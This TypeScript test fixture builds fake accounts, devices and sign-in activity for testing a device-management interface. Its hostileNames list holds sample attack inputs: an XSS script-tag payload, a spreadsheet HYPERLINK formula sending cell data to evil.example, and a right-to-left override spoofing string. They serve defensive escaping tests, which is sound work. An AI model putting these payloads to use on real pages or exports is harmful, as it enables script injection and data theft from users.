import type { ActivityResource, ActivityType, DeviceResource } from '../../shared/contracts/resources.ts';
import type { DeviceId, DeviceKind, Place, SignOutReason } from '../../shared/contracts/values.ts';

/** An account in memory: what the fake API answers from. Tests move it as they need. */
export interface FakeAccount {
  devices: DeviceResource[];
  activity: ActivityResource[];
}

const minute = 60_000;
const day = 24 * 60 * minute;
let counter = 0;

/** A ULID by its form: the later, the greater. */
const ulid = (): string => {
  counter += 1;
  return `01m8${counter.toString().padStart(22, '0')}`;
};

export const ago = (milliseconds: number): string => new Date(Date.now() - milliseconds).toISOString();

export interface FakeDeviceProps {
  name: string;
  kind?: DeviceKind;
  os?: string | null;
  model?: string | null;
  apps?: string[];
  current?: boolean;
  trusted?: boolean;
  firstSeenDays?: number;
  lastSeenMinutes?: number;
  place?: Place | null;
}

export const fakeDevice = ({
  name,
  kind = 'computer',
  os = null,
  model = null,
  apps = ['Demo app'],
  current = false,
  trusted = false,
  firstSeenDays = 30,
  lastSeenMinutes = 10,
  place = { city: 'Lisbon', region: 'Lisbon', country: 'PT' },
}: FakeDeviceProps): DeviceResource => ({
  id: `dev_${ulid()}`,
  name,
  kind,
  os,
  model,
  current,
  trusted,
  state: 'active',
  firstSeenAt: ago(firstSeenDays * day),
  lastSeenAt: ago(lastSeenMinutes * minute),
  lastPlace: place,
  sessions: apps.map((app) => ({
    id: `ses_${ulid()}`,
    app: { name: app },
    state: 'active' as const,
    createdAt: ago(firstSeenDays * day),
    lastSeenAt: ago(lastSeenMinutes * minute),
  })),
});

export const fakeActivity = (
  type: ActivityType,
  device: DeviceResource | undefined,
  at: string,
  more: Partial<ActivityResource> = {},
): ActivityResource => ({
  id: `act_${ulid()}`,
  type,
  at,
  device: device ? { id: device.id, name: device.name } : null,
  sessions: device ? device.sessions.map(({ id, app }) => ({ id, app })) : [],
  by: device?.id ?? null,
  place: device?.lastPlace ?? null,
  reason: null,
  detail: type === 'signed-in' ? 'known-device' : null,
  ...more,
});

/** What an ordinary household has, with something to look at twice. */
export const household = (): FakeAccount => {
  const here = fakeDevice({
    name: 'Firefox on Linux',
    os: 'Linux',
    apps: ['Your devices'],
    current: true,
    trusted: true,
    lastSeenMinutes: 0,
  });
  const laptop = fakeDevice({ name: 'Work laptop', os: 'Windows 11', apps: ['Demo app', 'Demo notes'], trusted: true });
  const phone = fakeDevice({
    name: 'iPhone',
    kind: 'phone',
    os: 'iOS 26.1',
    model: 'iPhone',
    trusted: true,
    lastSeenMinutes: 3,
  });
  const stranger = fakeDevice({
    name: 'Chrome on Windows',
    os: 'Windows 11',
    firstSeenDays: 2,
    lastSeenMinutes: 130,
    place: { city: 'Warsaw', region: 'Mazovia', country: 'PL' },
  });
  const television = fakeDevice({
    name: 'Living room TV',
    kind: 'tv',
    os: 'Tizen 9.0',
    model: 'Samsung QE55',
    apps: ['Demo video'],
    lastSeenMinutes: 2 * 1440,
  });
  const tablet = fakeDevice({
    name: 'iPad',
    kind: 'tablet',
    os: 'iPadOS 18.5',
    trusted: true,
    firstSeenDays: 300,
    lastSeenMinutes: 121 * 1440,
    place: { city: 'Porto', country: 'PT' },
  });
  const console = fakeDevice({
    name: 'PlayStation',
    kind: 'console',
    apps: ['Demo video'],
    firstSeenDays: 200,
    lastSeenMinutes: 5 * 1440,
  });
  const watch = fakeDevice({ name: 'Watch', kind: 'watch', os: 'watchOS 26', lastSeenMinutes: 12, place: null });
  const old = fakeDevice({
    name: 'Pixel 6',
    kind: 'phone',
    os: 'Android 15',
    firstSeenDays: 250,
    lastSeenMinutes: 3 * 1440,
  });
  const gone = signedOut(old, here, ago(2 * day), 'selling', true);
  const devices = [here, stranger, laptop, phone, television, watch, tablet, console, gone];
  const activity = devices.flatMap((device, index) =>
    Array.from({ length: 5 }, (_, visit) =>
      fakeActivity('signed-in', device, ago((visit * visit * 4.5 + index / 3) * day), {
        detail: device === stranger ? 'new-device' : 'known-device',
      }),
    ),
  );
  activity.push(
    fakeActivity('device-signed-out', gone, ago(2 * day), { by: here.id, reason: 'selling' }),
    fakeActivity('sign-out-delivered', gone, ago(2 * day - 400)),
    fakeActivity('sign-out-confirmed', gone, ago(2 * day - 900)),
    fakeActivity('sign-in-refused', gone, ago(day), { detail: 'reauthentication-required' }),
    fakeActivity('device-renamed', laptop, ago(9 * day), { by: here.id, detail: 'DESKTOP-4F7A' }),
    fakeActivity('device-trusted', laptop, ago(9 * day), { by: here.id }),
  );
  return { devices, activity: sortActivity(activity) };
};

export const sortActivity = (items: ActivityResource[]): ActivityResource[] =>
  items.toSorted((a, b) => b.at.localeCompare(a.at) || b.id.localeCompare(a.id));

/** A device as it stands after a sign-out; `told` with every step of the receipt. */
export const signedOut = (
  device: DeviceResource,
  by: DeviceResource | null,
  at: string,
  reason: SignOutReason = 'other',
  told = false,
): DeviceResource => {
  const later = (milliseconds: number): string => new Date(Date.parse(at) + milliseconds).toISOString();
  return {
    ...device,
    state: 'signed-out',
    sessions: device.sessions.map((session) => ({ ...session, state: 'signed-out' })),
    signOut: {
      requestedAt: at,
      requestedBy: by?.id ?? null,
      reason,
      ...(told && { tokensRevokedAt: later(210), deliveredAt: later(400), confirmedAt: later(900) }),
    },
  };
};

/** More devices than a page of the API holds. */
export const manyDevices = (count: number): FakeAccount => {
  const kinds: DeviceKind[] = ['computer', 'phone', 'tablet', 'console', 'tv', 'watch', 'other'];
  const devices = Array.from({ length: count }, (_, index) =>
    fakeDevice({
      name: `Device ${index + 1}`,
      kind: kinds[index % kinds.length] ?? 'other',
      current: index === 500,
      trusted: true,
      lastSeenMinutes: 10 + index,
    }),
  );
  return { devices, activity: [] };
};

/** Names that would be markup, formulas, or turn the line around. */
export const hostileNames = [
  '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>',
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  '\u202Eecived s\u2019ecilA מחשב נייד العربية',
  `${'👩‍👩‍👧‍👦 '.repeat(20)}${'W'.repeat(60)}`,
  'x'.repeat(200),
];

export const hostileAccount = (): FakeAccount => {
  const devices = [
    fakeDevice({ name: 'This browser', current: true, trusted: true }),
    ...hostileNames.map((name) => fakeDevice({ name, os: name, model: name, apps: [name], trusted: true })),
  ];
  return { devices, activity: devices.toReversed().map((device) => fakeActivity('signed-in', device, ago(minute))) };
};

export const deviceById = ({ devices }: FakeAccount, id: DeviceId): DeviceResource | undefined =>
  devices.find((device) => device.id === id);
